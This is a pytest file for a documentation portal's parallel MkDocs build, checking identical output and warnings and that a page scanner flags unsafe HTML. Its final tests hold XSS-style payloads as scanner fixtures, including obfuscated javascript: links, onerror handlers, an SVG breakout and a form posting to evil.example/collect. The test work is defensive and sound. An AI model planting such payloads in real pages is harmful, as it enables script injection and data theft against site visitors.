"""MkDocs' build with its pages shared out over processes (generator/engine/parallel_mkdocs.py):
the same bytes, the same warnings in the same order, the same failures as MkDocs' own build,
and the site scan sees every page whichever process wrote it."""

from __future__ import annotations

import hashlib
import logging
import shutil
import textwrap
from datetime import date
from pathlib import Path

import pytest
from conftest import ROOT, cli

from generator.checks.published import unsafe_pages
from generator.checks.sanitise import Policy
from generator.diagnostics import PortalError
from generator.engine.mkdocs import run_mkdocs
from generator.render.site import Site

CONFIG = """\
site_name: Shares
theme:
  name: material
  font: false
  features: [navigation.indexes, navigation.prune]
plugins: [search]
markdown_extensions: [attr_list, toc]
validation:
  links:
    anchors: warn
    not_found: warn
nav:
  - index.md
  - Guides:
    - guides/index.md
    - guides/a.md
    - guides/b.md
    - guides/c.md
    - Named in the nav: guides/d.md
"""

PAGES = {
    "index.md": "# Home\n\nSee [the first guide](guides/a.md).\n",
    "guides/index.md": "# Guides *all* of them\n\nIntro.\n",
    # Its title is its first heading, which only the process converting it knows: the others'
    # navigation shows it too.
    "guides/a.md": "# Apples &amp; *pears*\n\n## Picking {#picking}\n\nText.\n",
    "guides/b.md": "# Bees\n\nSee [picking](a.md#picking), [pruning](a.md#pruning) and [here](#nowhere).\n",
    # Its front matter shows in the others' navigation too (a subtitle under its title).
    "guides/c.md": "---\ntitle: Cherries from the front matter\nsubtitle: Stone fruit\n---\n\nNo heading. [Missing](gone.md).\n",
    "guides/d.md": "# Dates\n\nBack to [bees](b.md#bees).\n",
}


def project(root: Path, config: str = CONFIG, pages: dict[str, str] = PAGES) -> Path:
    (root / "docs").mkdir(parents=True)
    for name, text in pages.items():
        (root / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
        (root / "docs" / name).write_text(text, encoding="utf-8")
    (root / "mkdocs.yml").write_text(config, encoding="utf-8")
    return root / "mkdocs.yml"


def digests(site: Path) -> dict[str, str]:
    return {p.relative_to(site).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(site.rglob("*")) if p.is_file()}


SITE = Site("Shares", date=date(2026, 11, 22))


def built(config: Path, shares: int, policy: Policy | None = None) -> tuple[dict[str, str], list[str], list[str]]:
    site = config.parent / f"site-{shares}"
    warnings, found = run_mkdocs(config, site, SITE, config.parent, shares, lambda pages: unsafe_pages(site, policy or Policy(), pages))
    return digests(site), [d.message for d in warnings], sorted(found)


@pytest.mark.parametrize("shares", [2, 3])
def test_pages_shared_out_are_the_bytes_and_warnings_of_mkdocs_own_build(tmp_path, shares):
    config = project(tmp_path)
    alone, alone_warnings, _ = built(config, 1)
    shared, shared_warnings, _ = built(config, shares)
    assert alone == shared
    other = (tmp_path / f"site-{shares}/guides/d/index.html").read_text()
    assert "Apples &amp; pears" in other and "<small>Stone fruit</small>" in other  # title, front matter from elsewhere
    # Warnings from every process, in the order MkDocs gives them: a link to a missing page while
    # converting, then the anchors across pages once every page is known.
    assert len(alone_warnings) == 3 and any("#pruning" in w for w in alone_warnings), alone_warnings
    assert shared_warnings == alone_warnings


EXTENDED = CONFIG.replace("markdown_extensions: [attr_list, toc]", """markdown_extensions:
  - admonition
  - attr_list
  - def_list
  - footnotes
  - md_in_html
  - tables
  - toc:
      permalink: true
  - pymdownx.details
  - pymdownx.superfences
""")
# A page that gives every extension something to remember: ids, footnotes, stashed HTML, fences.
EVERYTHING = """# {title}

## Steps {{#steps}}

A note[^1] and [a link](#steps).

[^1]: The note.

!!! note "Heads up"
    Said once.

Term
:   Its meaning.

| a | b |
|---|---|
| 1 | 2 |

```python
print("{title}")
```

??? info "More"
    Hidden.

<div markdown>
*Inside* HTML.
</div>

## Steps
"""


def test_pages_converted_by_one_converter_are_the_bytes_of_mkdocs_own_build(tmp_path):
    """Each process converts its pages with one converter, reset between them: every page as
    MkDocs' converter made for that page alone converts it, several pages to a process."""
    from mkdocs.config import load_config

    from generator.engine.parallel_mkdocs import reusable_converter

    pages = {**PAGES, **{f"guides/{name}.md": EVERYTHING.format(title=name.title()) for name in "abcd"}}
    config = project(tmp_path, EXTENDED, pages)
    assert reusable_converter(load_config(str(config)))  # else this compares MkDocs with itself
    alone, alone_warnings, _ = built(config, 1)
    shared, shared_warnings, _ = built(config, 2)
    assert alone == shared and shared_warnings == alone_warnings
    page = (tmp_path / "site-2/guides/d/index.html").read_text()
    assert page.count('id="fn:1"') == 1 and 'id="steps_1"' in page and "Hidden." in page


@pytest.mark.parametrize("old, new", [
    ("  - tables\n", "  - tables\n  - abbr\n"),  # before Python-Markdown 3.7, abbreviations stay registered
    ("  - tables\n", "  - tables\n  - pymdownx.snippets\n"),  # not known to reset
    ("  - footnotes\n", "  - footnotes:\n      UNIQUE_IDS: true\n"),  # counts its conversions
])
def test_a_converter_is_reused_only_with_extensions_known_to_reset(tmp_path, old, new):
    from mkdocs.config import load_config

    from generator.engine.parallel_mkdocs import reusable_converter

    assert reusable_converter(load_config(str(project(tmp_path / "known", EXTENDED))))
    assert not reusable_converter(load_config(str(project(tmp_path / "other", EXTENDED.replace(old, new)))))


def test_a_page_that_fails_fails_the_build_as_mkdocs_own_build_fails(tmp_path):
    pages = {**PAGES, "guides/b.md": "---\ntemplate: missing.html\n---\n\n# Bees\n"}
    config = project(tmp_path, pages=pages)
    failures = []
    for shares in (1, 2):
        with pytest.raises(PortalError) as failed:
            built(config, shares)
        failures.append(str(failed.value))
    assert "a theme template is broken" in failures[0] and "missing.html" in failures[0]
    assert failures[1] == failures[0]
    logging.getLogger("mkdocs").handlers.clear()


def test_every_page_is_scanned_whichever_process_wrote_it(tmp_path):
    config = project(tmp_path, CONFIG + "extra_javascript: ['https://cdn.example/track.js']\n")
    _, _, alone = built(config, 1)
    _, _, shared = built(config, 2)
    every_page = {"index.html", "404.html", "guides/index.html", "guides/a/index.html", "guides/b/index.html",
                  "guides/c/index.html", "guides/d/index.html"}
    assert {f.split(": ")[0] for f in alone} == every_page
    assert all("loads 'https://cdn.example/track.js' from another origin" in f for f in alone)
    assert shared == alone


def test_a_portal_build_whose_pages_are_shared_out_is_the_same_site(tmp_path):
    shutil.copytree(ROOT / "content", tmp_path / "content")
    shutil.copy(ROOT / "mkdocs.yml", tmp_path / "mkdocs.yml")
    sites = []
    for jobs in ("1", "2"):
        result = cli(tmp_path, "build", "--strict", "--language", "en", "--jobs", jobs, "--site-dir", f"site-{jobs}",
                     "--build-dir", f"build-{jobs}")
        assert result.returncode == 0, result.stdout + result.stderr
        sites.append(digests(tmp_path / f"site-{jobs}"))
    assert len(sites[0]) > 100 and sites[0] == sites[1]


SCANNED = textwrap.dedent("""\
    <!doctype html><html><head><title>t</title>{head}</head>
    <body><header><a href="/">Home</a></header><article>{article}</article></body></html>""")


@pytest.mark.parametrize("head, article, problem", [
    ("", '<a href="jav&#x61;script:alert(1)">x</a>', "<a> has a javascript: address in href="),
    ("", '<a href="java\nscript:alert(1)">x</a>', "<a> has a javascript: address in href="),
    ("", "<img src=x.png onerror=alert(1)>", "<img> has the inline handler onerror="),
    ("", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<a> has a javascript: address in xlink:href="),
    ("", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "<iframe> has srcdoc="),
    ("", '<form action="https://evil.example/collect"><input></form>', "<form> sends a form to 'https://evil.example/collect'"),
    ("", '<p>x</p><meta http-equiv="refresh" content="0;url=https://evil.example/">', "the page's content holds a <meta> element"),
    # In SVG a <style> holds markup, and an <img> there breaks out into HTML: a browser runs it.
    ("", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<img> has the inline handler onerror="),
    ('<script src="https://cdn.example/x.js"></script>', "<p>x</p>", "<script> loads 'https://cdn.example/x.js' from another origin"),
    ('<link rel="stylesheet" href="//cdn.example/x.css">', "<p>x</p>", "<link> loads '//cdn.example/x.css' from another origin"),
])
def test_the_scan_reads_a_page_as_a_browser_does(tmp_path, head, article, problem):
    (tmp_path / "index.html").write_text(SCANNED.format(head=head, article=article), encoding="utf-8")
    assert f"index.html: {problem}" in unsafe_pages(tmp_path, Policy())


@pytest.mark.parametrize("article", [
    "<!-- <img src=x onerror=alert(1)> -->",  # a comment runs nothing
    "<textarea><img src=x onerror=alert(1)></textarea>",  # text, not an element
    '<a href="/ok/" href="javascript:alert(1)">x</a>',  # a browser keeps the first of two
    '<script type="application/json">{"a": 1}</script>',
    '<a href="https://example.org/a?b=javascript:c">x</a>',
])
def test_the_scan_does_not_call_safe_markup_unsafe(tmp_path, article):
    (tmp_path / "index.html").write_text(SCANNED.format(head="", article=article), encoding="utf-8")
    assert unsafe_pages(tmp_path, Policy()) == []
